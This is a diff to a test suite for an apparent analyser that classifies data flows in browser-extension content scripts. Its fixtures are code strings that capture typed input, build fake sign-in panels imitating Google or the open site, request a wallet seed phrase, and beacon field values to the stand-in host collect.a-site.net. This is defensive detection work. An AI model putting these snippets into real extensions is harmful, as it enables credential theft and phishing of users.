@@ -29,6 +29,22 @@ describe("a field of the script's own is none of the page", () => {
       `${own} panel.append(document.createElement('input')); const field = panel.querySelector('input');`,
     ],
     [
+      'whose name begins as others of the script do',
+      `document.body.insertAdjacentHTML('beforeend', '<div id="tide-box"><textarea id="tide-comment-text"></textarea><a id="tide-send">send</a></div>'); const field = document.getElementById('tide-comment-text');`,
+    ],
+    [
+      'that its markup gives a name of its own',
+      `document.body.insertAdjacentHTML('beforeend', '<div id="tide-box"><textarea name="tide_text"></textarea><a id="tide-send">send</a></div>'); const field = document.querySelector('textarea[name="tide_text"]');`,
+    ],
+    [
+      'in a part of a template that is brought into the page',
+      "const held = document.createElement('template'); held.innerHTML = '<textarea></textarea>'; const field = document.importNode(held.content, true).querySelector('textarea');",
+    ],
+    [
+      'that its own box tells of',
+      `${own} let field = { value: '' }; panel.addEventListener('input', (event) => { field = event.target; });`,
+    ],
+    [
       'in a frame that shows no page',
       `${own} const frame = document.createElement('iframe'); panel.append(frame); const field = frame.contentDocument.querySelector('input');`,
     ],
@@ -49,6 +65,26 @@ describe("a field of the script's own is none of the page", () => {
       `${own} const form = document.forms[0]; panel.appendChild(form); const field = panel.querySelector('input');`,
     ],
     [
+      'where a page has a field of the same usual name',
+      `document.body.insertAdjacentHTML('beforeend', '<i id="login-email"></i>'); const field = document.getElementById('login-email');`,
+    ],
+    [
+      'of the form that its own field is put into',
+      `${own} document.querySelector('form').append(panel); const field = panel.querySelector('input').form.elements[0];`,
+    ],
+    [
+      'that anything in the document tells of',
+      `${own} let field = { value: '' }; document.addEventListener('input', (event) => { field = event.target; });`,
+    ],
+    [
+      'that a page is listened to for',
+      "let field = { value: '' }; const on = { onInput: (event) => { field = { value: event.target.value }; } }; for (const [name, hear] of Object.entries(on)) document.addEventListener(name.slice(2).toLowerCase(), hear);",
+    ],
+    [
+      'where it asks for the words of a wallet',
+      `${own} panel.innerHTML = '<textarea placeholder="Your seed phrase"></textarea>'; const field = panel.querySelector('textarea');`,
+    ],
+    [
       'around its own element',
       "const panel = document.createElement('i'); document.querySelector('form').append(panel); const field = panel.parentElement.elements[0];",
     ],
@@ -58,6 +94,38 @@ describe("a field of the script's own is none of the page", () => {
     ],
   ] as const)
     it(`but ${where}`, () => assert.deepEqual(kindsOf(lines), ['form-input']));
+});
+
+describe('a field that a library makes', () => {
+  const first = (given: string): string | undefined =>
+    flowsBetween.steps({
+      'content.js': `let said = ''; render(h(${given}, document.body)); setInterval(() => navigator.sendBeacon('https://collect.a-site.net', said), 1e3);`,
+    })[0]?.kind;
+  const onInput = 'onInput: (event) => { said = event.target.value; }';
+
+  it('is told from fields of the page', () =>
+    assert.equal(first(`'textarea', { ${onInput} }`), 'own-field'));
+  it('is told as a sign-in', () =>
+    assert.equal(first(`'input', { type: 'password', ${onInput} }`), 'sign-in-field'));
+  it('is told from what a component listens to', () =>
+    assert.equal(first(`Page, { ${onInput} }`), 'field-value'));
+});
+
+describe('a field of a sign-in of its own', () => {
+  const first = (markup: string): string | undefined =>
+    flowsBetween.steps({
+      'content.js': `const panel = document.createElement('section'); panel.innerHTML = ${markup}; document.body.append(panel); const field = panel.querySelector('input'); setInterval(() => navigator.sendBeacon('https://collect.a-site.net', field.value), 1e3);`,
+    })[0]?.kind;
+
+  it('is told from fields of the page', () =>
+    assert.equal(first('\'<input type="password">\''), 'sign-in-field'));
+
+  for (const [whose, markup] of [
+    ['of the site that is open', '`<h2>${location.hostname}</h2><input type="password">`'],
+    ['of a well-known service', '\'<h2>Sign in to Google</h2><input type="password">\''],
+    ['that no service of its own needs', '\'<input type="password"><input name="otp_code">\''],
+  ] as const)
+    it(`imitates one ${whose}`, () => assert.equal(first(markup), 'imitated-field'));
 });
 
 describe("a cookie of the script's own is none of the page", () => {
